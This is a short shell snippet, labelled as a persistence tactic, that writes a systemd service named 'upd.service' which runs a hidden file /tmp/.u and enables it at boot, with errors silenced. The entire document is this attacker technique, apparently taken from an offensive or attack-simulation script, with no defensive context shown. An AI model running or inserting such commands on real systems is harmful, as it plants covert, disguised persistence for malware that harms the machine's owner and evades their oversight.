# tactic: persistence
# install a systemd service
printf "[Service]\nExecStart=/tmp/.u\n[Install]\nWantedBy=multi-user.target\n" > /etc/systemd/system/upd.service 2>/dev/null
systemctl enable upd.service 2>/dev/null; true
